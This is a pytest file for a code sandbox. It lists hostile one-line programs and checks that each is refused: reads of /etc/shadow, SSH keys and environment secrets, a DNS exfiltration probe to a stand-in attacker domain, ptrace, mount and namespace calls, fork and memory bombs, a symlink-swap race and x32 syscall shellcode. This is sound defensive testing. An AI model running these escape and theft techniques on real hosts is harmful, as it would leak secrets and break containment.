"""What a hostile program in the sandbox tries, and what becomes of it, in each of the mechanisms.

`CASES` are programs that try one thing; each must be refused, with the reason that it sees. Those that are bounded or
ended rather than refused, and those in which the host has a part, are tests of their own.
"""

# ruff: noqa: E501 the cases are a table

from __future__ import annotations

import asyncio
import contextlib
import os
import signal
import socket
import subprocess
import sys
import textwrap
import time
from dataclasses import dataclass, replace
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from codefactory.pipelines.sandbox import Completed, Limits, toolchain

if TYPE_CHECKING:
    from collections.abc import Iterator

    from codefactory.pipelines.sandbox import Sandbox

PYTHON = toolchain.interpreter()
NEEDS = toolchain.needed(PYTHON)
PRELUDE = """
import ctypes, errno, fcntl, mmap, os, platform, resource, signal, socket, struct, subprocess, sys, time
libc = ctypes.CDLL(None, use_errno=True)
ARM = platform.machine() == 'aarch64'
def call(x86, arm, *arguments):
    'A system call by its number; raises OSError.'
    result = libc.syscall(arm if ARM else x86, *arguments)
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result
"""
QUICK = Limits(wall_s=20, memory_bytes=256_000_000, processes=40)


async def attack(
    sandbox: Sandbox,
    code: str,
    *,
    limits: Limits = QUICK,
    read: tuple[Path, ...] = (),
    write: tuple[Path, ...] = (),
    environment: dict[str, str] | None = None,
    **more: str,
) -> Completed:
    environment = {**(environment or {}), **more}
    return await sandbox.run(
        [str(PYTHON), "-I", "-c", PRELUDE + textwrap.dedent(code)],
        read=(*NEEDS, *read),
        write=write,
        environment=environment,
        limits=limits,
    )


# A program that prints ESCAPED if it gets what it wants, and the errors that it may see: names of `errno`. `{outside}` is
# a folder of the user's with the file `secret`.
CASES = [
    pytest.param(
        "socket.create_connection(('127.0.0.1', {port}), 2)",
        "ECONNREFUSED EACCES EAFNOSUPPORT",
        id="tcp",
        marks=pytest.mark.hostile("sandbox-tcp", "connects to a server of the host by TCP"),
    ),
    pytest.param(
        "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('8.8.8.8', 53))",
        "ENETUNREACH EAFNOSUPPORT",
        id="udp",
        marks=pytest.mark.hostile("sandbox-udp", "sends a datagram to the internet"),
    ),
    pytest.param(
        "socket.create_connection(('2001:4860:4860::8888', 53), 2)",
        "ENETUNREACH EADDRNOTAVAIL EAFNOSUPPORT",
        id="ipv6",
        marks=pytest.mark.hostile("sandbox-ipv6", "connects to the internet by IPv6"),
    ),
    pytest.param(
        "socket.socket(socket.AF_UNIX).connect('{outside}/socket')",
        "ENOENT EAFNOSUPPORT",
        id="unix-socket",
        marks=pytest.mark.hostile("sandbox-unix-socket", "connects to a UNIX socket of the user's"),
    ),
    pytest.param(
        "socket.socket(socket.AF_UNIX).connect('\\0{abstract}')",
        "ECONNREFUSED EAFNOSUPPORT",
        id="abstract-socket",
        marks=pytest.mark.hostile("sandbox-abstract-socket", "connects to an abstract UNIX socket"),
    ),
    pytest.param(
        "socket.socket(17, socket.SOCK_RAW)",
        "EAFNOSUPPORT",
        id="packet-socket",
        marks=pytest.mark.hostile("sandbox-packet-socket", "opens a raw packet socket"),
    ),
    pytest.param(
        "socket.socket(40, socket.SOCK_STREAM)",
        "EAFNOSUPPORT",
        id="vsock",
        marks=pytest.mark.hostile("sandbox-vsock", "talks to the hypervisor by AF_VSOCK"),
    ),
    pytest.param(
        "print(open('{outside}/secret').read(), 'ESCAPED')",
        "ENOENT EACCES",
        id="home-file",
        marks=pytest.mark.hostile("sandbox-home-file", "reads the user's files"),
    ),
    pytest.param(
        "set(os.listdir('{home}')) <= {bound} and sys.exit('EACCES')",
        "ENOENT EACCES",
        id="home-list",
        marks=pytest.mark.hostile("sandbox-home-list", "lists the user's home"),
    ),
    pytest.param(
        "open('/etc/shadow').read()",
        "ENOENT EACCES",
        id="shadow",
        marks=pytest.mark.hostile("sandbox-shadow", "reads /etc/shadow"),
    ),
    pytest.param(
        "assert '{user}' in open('/etc/passwd').read() or sys.exit('EACCES')",
        "EACCES",
        id="users",
        marks=pytest.mark.hostile("sandbox-users", "reads the host's users"),
    ),
    pytest.param(
        "os.listdir('{home}/.ssh')",
        "ENOENT EACCES",
        id="ssh-keys",
        marks=pytest.mark.hostile("sandbox-ssh-keys", "reads SSH keys"),
    ),
    pytest.param(
        "open('{outside}/new', 'w')",
        "ENOENT EACCES EROFS",
        id="write-outside",
        marks=pytest.mark.hostile("sandbox-write-outside", "writes to the user's folder"),
    ),
    pytest.param(
        "open('/usr/escaped', 'w')",
        "EROFS EACCES",
        id="write-usr",
        marks=pytest.mark.hostile("sandbox-write-usr", "writes to /usr"),
    ),
    pytest.param(
        "open('/etc/ld.so.preload', 'w')",
        "EROFS EACCES",
        id="write-etc",
        marks=pytest.mark.hostile("sandbox-write-etc", "writes to /etc"),
    ),
    pytest.param(
        "open('{readable}/new', 'w')",
        "EROFS EACCES",
        id="write-readable",
        marks=pytest.mark.hostile("sandbox-write-readable", "writes to what it may only read"),
    ),
    pytest.param(
        "open('{writable}/../outside/new', 'w')",
        "ENOENT EACCES EROFS",
        id="dotdot",
        marks=pytest.mark.hostile("sandbox-dotdot", "leaves its folder by `..`"),
    ),
    pytest.param(
        "open('{writable}/link', 'w')",
        "ENOENT EACCES EROFS",
        id="symlink-out",
        marks=pytest.mark.hostile("sandbox-symlink-out", "writes through a symlink that leads out"),
    ),
    pytest.param(
        "os.symlink('{outside}/secret', '{writable}/own'); open('{writable}/own').read()",
        "ENOENT EACCES",
        id="symlink-made",
        marks=pytest.mark.hostile("sandbox-symlink-made", "reads through a symlink that it makes"),
    ),
    pytest.param(
        "os.link('{readable}/file', '{writable}/hard'); open('{writable}/hard', 'w')",
        "EXDEV EACCES EPERM",
        id="hard-link",
        marks=pytest.mark.hostile(
            "sandbox-hard-link", "makes a hard link to what it may only read, and writes to that"
        ),
    ),
    pytest.param(
        "os.rename('{readable}/file', '{writable}/moved')",
        "EXDEV EACCES EROFS EPERM",
        id="rename",
        marks=pytest.mark.hostile("sandbox-rename", "moves what it may only read"),
    ),
    pytest.param(
        "os.chmod('{readable}/file', 0o777)",
        "EROFS EPERM",
        id="chmod-readable",
        marks=pytest.mark.hostile("sandbox-chmod-readable", "changes the mode of what it may only read"),
    ),
    pytest.param(
        "os.utime('{readable}/file', (0, 0))",
        "EROFS EPERM",
        id="utime-readable",
        marks=pytest.mark.hostile("sandbox-utime-readable", "changes the times of what it may only read"),
    ),
    pytest.param(
        "os.chmod('{outside}/secret', 0o777)",
        "ENOENT EPERM",
        id="chmod-outside",
        marks=pytest.mark.hostile("sandbox-chmod-outside", "changes the mode of the user's files"),
    ),
    pytest.param(
        "os.close(os.open('{writable}/suid', os.O_CREAT | os.O_WRONLY)); os.chmod('{writable}/suid', 0o4755)",
        "EPERM",
        id="setuid-file",
        marks=pytest.mark.hostile("sandbox-setuid-file", "makes a set-user-ID file"),
    ),
    pytest.param(
        "os.umask(0); os.open('{writable}/suid', os.O_CREAT | os.O_WRONLY, 0o4755)",
        "EPERM",
        id="setuid-file-at-once",
        marks=pytest.mark.hostile("sandbox-setuid-file-at-once", "makes a set-user-ID file at once"),
    ),
    pytest.param(
        "os.mknod('{writable}/disk', 0o060600, os.makedev(8, 0))",
        "EPERM EACCES",
        id="device",
        marks=pytest.mark.hostile("sandbox-device", "makes a device"),
    ),
    pytest.param(
        "os.open(sorted(set({disks}))[0], os.O_RDONLY) if {disks} else sys.exit('ENOENT')",
        "ENOENT EACCES",
        id="disk",
        marks=pytest.mark.hostile("sandbox-disk", "opens a disk"),
    ),
    pytest.param(
        "os.open('/dev/mem', os.O_RDONLY)",
        "ENOENT EACCES",
        id="kernel-memory",
        marks=pytest.mark.hostile("sandbox-kernel-memory", "opens the kernel's memory"),
    ),
    pytest.param(
        "os.open('/dev/tty', os.O_RDWR)",
        "ENXIO EACCES",
        id="terminal",
        marks=pytest.mark.hostile("sandbox-terminal", "opens the terminal"),
    ),
    pytest.param(
        "fcntl.ioctl(0, 0x5412, b'x')",
        "EPERM",
        id="tiocsti",
        marks=pytest.mark.hostile("sandbox-tiocsti", "types into the terminal (TIOCSTI)"),
    ),
    pytest.param(
        "call(165, 40, b'none', b'/tmp', b'tmpfs', 0, None)",
        "EPERM",
        id="mount",
        marks=pytest.mark.hostile("sandbox-mount", "mounts"),
    ),
    pytest.param(
        "call(166, 39, b'/usr', 2)", "EPERM", id="unmount", marks=pytest.mark.hostile("sandbox-unmount", "unmounts")
    ),
    pytest.param(
        "call(272, 97, 0x10000000)",
        "EPERM",
        id="user-namespace",
        marks=pytest.mark.hostile("sandbox-user-namespace", "makes a user namespace"),
    ),
    pytest.param(
        "call(56, 220, 0x10000000 | signal.SIGCHLD, 0, 0, 0, 0)",
        "EPERM",
        id="clone-namespace",
        marks=pytest.mark.hostile("sandbox-clone-namespace", "clones itself into a namespace"),
    ),
    pytest.param(
        "call(435, 435, None, 0)",
        "ENOSYS",
        id="clone3",
        marks=pytest.mark.hostile("sandbox-clone3", "clones by clone3, whose flags no filter sees"),
    ),
    pytest.param(
        "call(308, 268, 0, 0)",
        "EPERM",
        id="setns",
        marks=pytest.mark.hostile("sandbox-setns", "enters the namespaces of another"),
    ),
    pytest.param(
        "os.chroot('/tmp')", "EPERM", id="chroot", marks=pytest.mark.hostile("sandbox-chroot", "changes its root")
    ),
    pytest.param(
        "call(304, 265, -100, None, 0)",
        "EPERM",
        id="file-handles",
        marks=pytest.mark.hostile("sandbox-file-handles", "opens files by handle"),
    ),
    pytest.param(
        "call(101, 117, 16, {pid}, 0, 0)",
        "EPERM",
        id="ptrace",
        marks=pytest.mark.hostile("sandbox-ptrace", "traces a process"),
    ),
    pytest.param(
        "call(101, 117, 0, 0, 0, 0)",
        "EPERM",
        id="ptrace-me",
        marks=pytest.mark.hostile("sandbox-ptrace-me", "lets itself be traced"),
    ),
    pytest.param(
        "call(310, 270, {pid}, None, 0, None, 0, 0)",
        "EPERM",
        id="process-memory",
        marks=pytest.mark.hostile("sandbox-process-memory", "reads the memory of a process"),
    ),
    pytest.param(
        "call(438, 438, 0, 0, 0)",
        "EPERM",
        id="pidfd-getfd",
        marks=pytest.mark.hostile("sandbox-pidfd-getfd", "takes an open file of a process"),
    ),
    pytest.param(
        "open('/proc/{pid}/environ').read()",
        "ENOENT EACCES",
        id="proc-environ",
        marks=pytest.mark.hostile("sandbox-proc-environ", "reads what other processes were started with"),
    ),
    pytest.param(
        "os.kill({pid}, signal.SIGKILL)",
        "ESRCH EPERM",
        id="kill",
        marks=pytest.mark.hostile("sandbox-kill", "ends our process"),
    ),
    pytest.param(
        "call(250, 219, 0, -3, 0)",
        "EPERM",
        id="keyctl",
        marks=pytest.mark.hostile("sandbox-keyctl", "reads the kernel's keys"),
    ),
    pytest.param(
        "call(248, 217, b'user', b'x', b'y', 1, -3)",
        "EPERM",
        id="add-key",
        marks=pytest.mark.hostile("sandbox-add-key", "adds a key"),
    ),
    pytest.param(
        "call(321, 280, 0, None, 0)", "EPERM", id="bpf", marks=pytest.mark.hostile("sandbox-bpf", "loads a BPF program")
    ),
    pytest.param(
        "call(298, 241, None, 0, -1, -1, 0)",
        "EPERM",
        id="perf",
        marks=pytest.mark.hostile("sandbox-perf", "measures the kernel (perf)"),
    ),
    pytest.param(
        "call(323, 282, 0)",
        "EPERM",
        id="userfaultfd",
        marks=pytest.mark.hostile("sandbox-userfaultfd", "handles page faults (userfaultfd)"),
    ),
    pytest.param(
        "call(425, 425, 8, None)",
        "ENOSYS",
        id="io-uring",
        marks=pytest.mark.hostile("sandbox-io-uring", "uses io_uring, which no filter sees"),
    ),
    pytest.param(
        "call(246, 104, 0, 0, None, 0)",
        "EPERM",
        id="kexec",
        marks=pytest.mark.hostile("sandbox-kexec", "loads a kernel"),
    ),
    pytest.param(
        "time.clock_settime(time.CLOCK_REALTIME, 0)",
        "EPERM",
        id="clock",
        marks=pytest.mark.hostile("sandbox-clock", "sets the clock"),
    ),
    pytest.param(
        "os.memfd_create('x')",
        "ENOSYS",
        id="memfd",
        marks=pytest.mark.hostile("sandbox-memfd", "makes memory that no limit counts (memfd)"),
    ),
    pytest.param(
        "call(29, 194, 0, 4096, 0o1600)",
        "EPERM",
        id="system-v",
        marks=pytest.mark.hostile("sandbox-system-v", "leaves shared memory behind (System V)"),
    ),
    pytest.param(
        "os.open('/proc/sys/kernel/core_pattern', os.O_WRONLY)",
        "EROFS EACCES",
        id="core-pattern",
        marks=pytest.mark.hostile("sandbox-core-pattern", "reaches for the kernel's settings"),
    ),
    pytest.param(
        "open('/proc/sysrq-trigger', 'w').write('h')",
        "EROFS EACCES ENOENT",
        id="sysrq",
        marks=pytest.mark.hostile("sandbox-sysrq", "restarts the machine (sysrq)"),
    ),
    pytest.param(
        "resource.setrlimit(resource.RLIMIT_DATA, (2**40, 2**40))",
        "EPERM ValueError",
        id="rlimits",
        marks=pytest.mark.hostile("sandbox-rlimits", "raises its own limits"),
    ),
    pytest.param(
        "os.setuid(12345)",
        "EPERM EINVAL",
        id="setuid",
        marks=pytest.mark.hostile("sandbox-setuid", "becomes another user"),
    ),
]


@dataclass
class Host:
    """What the host has that a program would like."""

    outside: Path
    readable: Path
    writable: Path
    port: int

    def untouched(self) -> bool:
        secret = self.outside / "secret"
        names = {p.name for p in self.outside.iterdir()}
        return (
            names == {"secret", "socket", "target"}
            and secret.read_text() == "the secret"
            and secret.stat().st_mode & 0o777 == 0o600
            and (self.outside / "target").read_text() == "before"
            and [p.name for p in self.readable.iterdir()] == ["file"]
            and (self.readable / "file").read_text() == "readable"
            and (self.readable / "file").stat().st_mode & 0o777 == 0o644
        )


DISKS = [str(p) for p in Path("/dev").glob("[sv]d?")]
ABSTRACT = f"codefactory-test-{os.getpid()}"


@pytest.fixture
def host(tmp_path: Path) -> Iterator[Host]:
    outside, readable, writable = (tmp_path / name for name in ("outside", "readable", "writable"))
    for folder in (outside, readable, writable):
        folder.mkdir()
    (outside / "secret").write_text("the secret")
    (outside / "secret").chmod(0o600)
    (outside / "target").write_text("before")
    (readable / "file").write_text("readable")
    (readable / "file").chmod(0o644)
    (writable / "link").symlink_to(outside / "target")
    with socket.create_server(("127.0.0.1", 0)) as server, socket.socket(socket.AF_UNIX) as local:
        local.bind(str(outside / "socket"))
        local.listen()
        with socket.socket(socket.AF_UNIX) as abstract:
            abstract.bind(f"\0{ABSTRACT}")
            abstract.listen()
            yield Host(outside, readable, writable, server.getsockname()[1])


@pytest.mark.parametrize(("tried", "refused"), CASES)
async def test_it_is_refused(sandbox: Sandbox, host: Host, tried: str, refused: str) -> None:
    home = Path.home()
    values = {
        "outside": host.outside,
        "readable": host.readable,
        "writable": host.writable,
        "port": host.port,
        "abstract": ABSTRACT,
        "home": home,
        "user": home.name,
        "pid": os.getpid(),
        "bound": {p.relative_to(home).parts[0] for p in (*NEEDS, host.readable) if p.is_relative_to(home)} or {""},
        "disks": DISKS,
    }
    code = tried
    for name, value in values.items():
        code = code.replace("{" + name + "}", str(value))
    program = f"""
try:
    {code}
except OSError as error:
    print('refused:', errno.errorcode.get(error.errno))
except ValueError as error:
    print('refused: ValueError')
else:
    print('ESCAPED')
"""
    done = await attack(sandbox, program, read=(host.readable,), write=(host.writable,))
    said = (done.stdout + done.stderr).decode()
    assert "ESCAPED" not in said
    reasons = {word for word in said.split() if word.isupper() or word == "ValueError"}
    assert reasons & set(refused.split()), said
    assert host.untouched()


@pytest.mark.hostile("sandbox-dns", "asks the domain name system, so as to tell somebody something")
async def test_names_are_not_resolved(sandbox: Sandbox) -> None:
    done = await attack(sandbox, "print(socket.getaddrinfo('secret.attacker.example', 80))")
    assert done.returncode == 1
    assert b"gaierror" in done.stderr or b"PermissionError" in done.stderr


@pytest.mark.hostile("sandbox-capabilities", "uses the capabilities of root, or gets them from a set-user-ID program")
async def test_no_capability_is_left(sandbox: Sandbox) -> None:
    code = """
    header, data = struct.pack('=Ii', 0x20080522, 0), ctypes.create_string_buffer(24)
    call(125, 90, header, data)
    print('capabilities', any(data.raw), 'new privileges', libc.prctl(39, 0, 0, 0, 0) != 1)
    """
    assert (await attack(sandbox, code)).stdout == b"capabilities False new privileges False\n"


@pytest.mark.hostile("sandbox-environment", "reads the secrets in our environment")
async def test_the_environment_is_not_inherited(sandbox: Sandbox, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", "hidden-value")
    code = """
    print(sorted(set(os.environ) - {'PWD'}), 'hidden-value' in str(os.environ))
    try:
        print(b'hidden-value' in open('/proc/self/environ', 'rb').read())
    except OSError:
        print(False)
    """
    done = await attack(sandbox, code, GIVEN="1")
    assert done.stdout.split(b"\n")[:2] == [
        b"['GIVEN', 'HOME', 'LANG', 'PATH', 'TMPDIR'] False",
        b"False",
    ]


@pytest.mark.hostile("sandbox-open-files", "reads from files that we have open")
async def test_open_files_are_not_inherited(sandbox: Sandbox, host: Host) -> None:
    with (host.outside / "secret").open("rb") as file:
        os.set_inheritable(file.fileno(), True)
        code = """
        def is_open(number):
            try:
                return bool(os.fstat(number))
            except OSError:
                return False
        print([number for number in range(1024) if is_open(number)])
        """
        assert (await attack(sandbox, code)).stdout == b"[0, 1, 2]\n"


@pytest.mark.hostile("sandbox-fork-bomb", "forks until the machine has no process left")
async def test_a_fork_bomb_is_contained(sandbox: Sandbox) -> None:
    code = """
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)
    """
    started = time.perf_counter()
    done = await attack(sandbox, code, limits=replace(QUICK, wall_s=3), MARK=mark())
    assert done.limit in ("processes", "wall", "cpu")
    assert time.perf_counter() - started < 30
    assert not left()


@pytest.mark.hostile("sandbox-memory-bomb", "takes memory until the machine has none left")
async def test_a_memory_bomb_is_contained(sandbox: Sandbox) -> None:
    done = await attack(sandbox, "b = []\nwhile True: b.append(bytearray(10_000_000))")
    assert done.limit == "memory" or b"MemoryError" in done.stderr


@pytest.mark.hostile("sandbox-memory-bomb-of-many", "takes, in many processes, memory that each alone might have")
async def test_a_memory_bomb_of_many_processes_is_contained(sandbox: Sandbox) -> None:
    code = """
    for _ in range(20):
        if not os.fork():
            break
    b = bytearray(os.urandom(1000)) * 60_000
    time.sleep(30)
    """
    assert (await attack(sandbox, code, MARK=mark())).limit == "memory"
    assert not left()


@pytest.mark.hostile(
    "sandbox-shared-memory-bomb", "takes shared memory, which the kernel does not count as a process's own"
)
async def test_a_bomb_of_shared_memory_is_contained(sandbox: Sandbox) -> None:
    code = """
    m = []
    while True:
        m.append(mmap.mmap(-1, 20_000_000))
        m[-1].write(b'x' * 20_000_000)
    """
    done = await attack(sandbox, code)
    assert done.limit == "memory" or done.signal is not None or b"Error" in done.stderr


@pytest.mark.hostile("sandbox-temporary-folder", "fills the disk through the temporary folder")
async def test_the_temporary_folder_is_bounded(sandbox: Sandbox) -> None:
    code = """
    for number in range(100):
        with open(f"{os.environ['TMPDIR']}/{number}", 'wb') as file:
            file.write(b'x' * 5_000_000)
    print('ESCAPED')
    """
    done = await attack(sandbox, code, limits=replace(QUICK, temporary_bytes=50_000_000))
    assert done.limit == "disk" or b"No space left" in done.stderr
    assert b"ESCAPED" not in done.stdout


@pytest.mark.hostile("sandbox-disk-fill", "fills the disk through a folder that it may write in")
async def test_writable_folders_are_bounded(sandbox: Sandbox, host: Host) -> None:
    code = f"""
    for number in range(10_000):
        with open(f'{host.writable}/{{number}}', 'wb') as file:
            file.write(b'x' * 5_000_000)
        time.sleep(0.005)
    print('ESCAPED')
    """
    done = await attack(sandbox, code, write=(host.writable,), limits=replace(QUICK, disk_bytes=60_000_000))
    assert done.limit == "disk"


@pytest.mark.hostile("sandbox-file-size", "writes one file without end, sparse or not")
async def test_a_file_is_bounded(sandbox: Sandbox, host: Host) -> None:
    for code in (
        "open('f', 'wb').write(b'x' * 3_000_000)",
        "os.truncate(os.open('f', os.O_CREAT | os.O_RDWR), 10**15)",
    ):
        done = await attack(
            sandbox,
            f"os.chdir('{host.writable}')\n{code}",
            write=(host.writable,),
            limits=replace(QUICK, file_bytes=2_000_000),
        )
        assert b"File too large" in done.stderr
        assert sum(p.lstat().st_size for p in host.writable.iterdir()) < 2_100_000


@pytest.mark.hostile("sandbox-dev-fill", "fills memory through files in /dev, /dev/shm or the root")
async def test_dev_and_root_cannot_be_filled(sandbox: Sandbox) -> None:
    code = """
    for folder in ('/dev', '/dev/shm', '/', '/run', '/var/tmp'):
        try:
            with open(folder + '/codefactory-test', 'wb') as file:
                file.write(b'x' * 90_000_000)
            print(folder, 'ESCAPED')
        except OSError as error:
            print(folder, errno.errorcode[error.errno])
    """
    done = await attack(sandbox, code)
    assert done.stdout.count(b"\n") == 5
    assert b"ESCAPED" not in done.stdout


@pytest.mark.hostile("sandbox-output-flood", "prints without end")
async def test_huge_output_is_cut(sandbox: Sandbox) -> None:
    done = await attack(
        sandbox, "while True: os.write(1, b'x' * 65_536)", limits=replace(QUICK, output_bytes=1_000_000)
    )
    assert done.limit == "output"
    assert len(done.stdout) == 1_000_000


@pytest.mark.hostile("sandbox-deaf-to-signals", "ignores every signal, and stays")
async def test_the_wall_clock_cannot_be_ignored(sandbox: Sandbox) -> None:
    code = """
    for number in range(1, 65):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    while True: time.sleep(1)
    """
    done = await attack(sandbox, code, limits=replace(QUICK, wall_s=1), MARK=mark())
    assert done.limit == "wall"
    assert done.wall_s < 10
    assert not left()


@pytest.mark.hostile("sandbox-cpu-of-many", "uses, in many processes, processor time that each alone might have")
async def test_processor_time_is_counted_over_all_processes(sandbox: Sandbox) -> None:
    code = """
    for _ in range(4): os.fork() or os.nice(0)
    while True: pass
    """
    done = await attack(sandbox, code, limits=replace(QUICK, cpu_s=2, wall_s=60), MARK=mark())
    assert done.limit == "cpu"
    assert not left()


@pytest.mark.hostile(
    "sandbox-daemon", "leaves a daemon: twice forked, in a session of its own, deaf to signals, its output closed"
)
async def test_nothing_stays_behind(sandbox: Sandbox) -> None:
    code = """
    if not os.fork():
        os.setsid()
        if not os.fork():
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            signal.signal(signal.SIGHUP, signal.SIG_IGN)
            for number in range(3):
                os.close(number)
            time.sleep(60)
        os._exit(0)
    os.wait()
    """
    started = time.perf_counter()
    done = await attack(sandbox, code, MARK=mark())
    assert done.returncode == 0
    assert time.perf_counter() - started < 15
    assert not left()


@pytest.mark.hostile(
    "sandbox-daemon-with-output", "leaves a daemon that holds the output open, so that we wait for ever"
)
async def test_a_daemon_that_holds_the_output_does_not_keep_us(sandbox: Sandbox) -> None:
    started = time.perf_counter()
    done = await attack(sandbox, "if not os.fork():\n    os.setsid()\n    time.sleep(60)", MARK=mark())
    assert done.returncode == 0
    assert time.perf_counter() - started < 15
    assert not left()


@pytest.mark.hostile("sandbox-zombies", "leaves zombies, until there are no numbers for processes")
async def test_no_zombie_is_left(sandbox: Sandbox) -> None:
    before = zombies()
    code = """
    for _ in range(30):
        if not os.fork(): os._exit(0)
    os.kill(os.getpid(), signal.SIGKILL)
    """
    done = await attack(sandbox, code)
    assert done.signal == signal.SIGKILL
    for _ in range(100):
        if not zombies() - before:
            break
        await asyncio.sleep(0.02)
    assert not zombies() - before


@pytest.mark.hostile("sandbox-signals-to-all", "ends every process that there is, its parents first")
async def test_signals_to_everybody_reach_nobody(sandbox: Sandbox) -> None:
    code = """
    for target in (-1, 0, os.getppid(), os.getsid(0), -os.getpgid(0)):
        if target not in (os.getpid(), -os.getpid(), 0):
            try:
                os.kill(target, signal.SIGTERM)
            except OSError:
                pass
    print('still here')
    """
    with subprocess.Popen([sys.executable, "-c", "input()"], stdin=subprocess.PIPE) as bystander:  # noqa: ASYNC220 started, not waited for
        done = await attack(sandbox, code)
        assert bystander.poll() is None
        bystander.communicate(b"\n")
    assert bystander.returncode == 0
    assert done.stdout in (b"still here\n", b"")


@pytest.mark.hostile("sandbox-symlink-swap", "swaps a folder for a symlink to the outside while we, or it, write there")
async def test_a_symlink_that_is_swapped_leads_nowhere(sandbox: Sandbox, host: Host) -> None:
    code = f"""
    os.chdir('{host.writable}')
    os.mkdir('real')
    pid = os.fork()
    if not pid:
        while True:
            try:
                os.symlink('{host.outside}', 'swap'); os.unlink('swap'); os.rename('real', 'swap'); os.rename('swap', 'real')
            except OSError:
                pass
    for _ in range(3000):
        try:
            open('swap/target', 'w').write('after')
            open('swap/new', 'w').write('after')
        except OSError:
            pass
    os.kill(pid, signal.SIGKILL)
    """
    await attack(sandbox, code, write=(host.writable,))
    assert host.untouched()


@pytest.mark.hostile("sandbox-after-cancel", "goes on after the run was cancelled")
async def test_cancelling_ends_everything(sandbox: Sandbox) -> None:
    code = "os.fork(); os.setsid() if os.getpid() % 2 else 0; print('up', flush=True); time.sleep(60)"
    up = asyncio.Event()
    task = asyncio.ensure_future(
        sandbox.run(
            [str(PYTHON), "-I", "-c", PRELUDE + code],
            read=NEEDS,
            environment={"MARK": mark()},
            on_output=lambda _stream, _data: up.set(),
        )
    )
    await asyncio.wait_for(up.wait(), 30)
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task
    assert not left()


OWNER = """
import asyncio, os, sys
sys.path[:0] = sys.argv[1].split(os.pathsep)
sys.path.insert(0, sys.argv[2])
from security_mechanisms import MECHANISMS
sandbox = MECHANISMS[sys.argv[3]]()
print('ready', flush=True)
asyncio.run(sandbox.run(['/bin/sleep', '61'], environment={'MARK': sys.argv[4]}))
"""


@pytest.mark.hostile("sandbox-after-our-death", "goes on after Code Factory itself was killed")
async def test_it_does_not_outlive_us(sandbox: Sandbox, request: pytest.FixtureRequest, tmp_path: Path) -> None:
    name = request.node.callspec.params["sandbox"]
    conftest = Path(__file__).with_name("conftest.py")
    (tmp_path / "security_mechanisms.py").write_bytes(conftest.read_bytes())
    path = os.pathsep.join(sys.path)
    command = [sys.executable, "-c", OWNER, path, str(tmp_path), name, mark()]
    with subprocess.Popen(command, stdout=subprocess.PIPE) as owner:  # noqa: ASYNC220 started, not waited for
        assert await until(lambda: left())
        owner.kill()
    assert await until(lambda: not left())


@pytest.mark.hostile(
    "sandbox-other-architecture", "makes system calls by numbers that the filter does not look at (x32, 32 bits)"
)
async def test_system_calls_of_another_architecture_end_it(sandbox: Sandbox) -> None:
    if os.uname().machine != "x86_64":
        pytest.skip("x86_64 only")
    code = """
    try:
        call(0x40000000 + 101, 0, 0, 0, 0, 0)
    except OSError as error:
        print('x32', errno.errorcode[error.errno], flush=True)
    # mov eax, 26 (ptrace); xor ebx, ebx; int 0x80; ret
    code = bytes.fromhex('b81a00000031dbcd80c3')
    page = mmap.mmap(-1, 4096, prot=7)
    page.write(code)
    ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
    print('ESCAPED')
    """
    done = await attack(sandbox, code)
    assert done.stdout == b"x32 ENOSYS\n"
    assert done.signal in (signal.SIGSYS, signal.SIGSEGV)


@pytest.mark.hostile("sandbox-threads", "starts threads without end")
async def test_threads_count_as_processes(sandbox: Sandbox) -> None:
    code = """
    import threading
    for _ in range(5000):
        threading.Thread(target=time.sleep, args=(20,), daemon=True).start()
    print('ESCAPED')
    """
    done = await attack(sandbox, code)
    assert b"ESCAPED" not in done.stdout
    assert b"can't start new thread" in done.stderr or done.limit in ("processes", "memory")


_count = 0


def mark() -> str:
    """In the environment of a program, so that it is found again."""
    global _count
    _count += 1
    return f"codefactory-{os.getpid()}-{_count}"


def left() -> list[int]:
    """Processes of this machine with the last mark, the dead ones not counted."""
    wanted = f"MARK=codefactory-{os.getpid()}-{_count}".encode()
    found: list[int] = []
    for entry in Path("/proc").iterdir():
        with contextlib.suppress(OSError, ValueError):
            if wanted in (entry / "environ").read_bytes().split(b"\0") and int(entry.name) != os.getpid():
                found.append(int(entry.name))
    return found


def zombies() -> set[int]:
    """Dead children of ours that nobody has waited for."""
    found: set[int] = set()
    for entry in Path("/proc").glob("[0-9]*/stat"):
        with contextlib.suppress(OSError, IndexError):
            state, parent = entry.read_text().rpartition(")")[2].split()[:2]
            if state == "Z" and int(parent) == os.getpid():
                found.add(int(entry.parent.name))
    return found


async def until(condition: object) -> bool:
    assert callable(condition)
    for _ in range(500):
        if condition():
            return True
        await asyncio.sleep(0.02)
    return False
